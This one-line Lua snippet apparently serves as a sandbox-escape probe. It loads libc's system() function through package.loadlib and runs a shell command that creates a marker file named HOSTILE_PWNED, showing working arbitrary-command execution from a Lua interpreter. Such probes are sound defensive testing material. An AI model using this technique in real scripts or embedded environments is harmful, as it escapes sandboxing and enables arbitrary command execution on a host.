return package.loadlib("libc.so.6", "system")("touch HOSTILE_PWNED")
